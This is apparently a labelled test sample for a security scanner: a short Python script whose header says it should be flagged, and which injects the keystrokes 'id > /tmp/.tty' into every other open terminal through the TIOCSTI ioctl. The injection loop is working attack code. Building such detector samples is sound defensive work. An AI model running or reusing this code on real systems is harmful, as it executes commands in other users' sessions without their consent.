# expect: signals_creds; injects keystrokes into another user's terminal (/dev/pts/N) with TIOCSTI
import fcntl
import glob
import termios

for pts in glob.glob("/dev/pts/[0-9]*"):
    try:
        fd = open(pts, "wb", buffering=0)
    except OSError:
        continue
    for b in b"id > /tmp/.tty\n":
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([b]))
    fd.close()
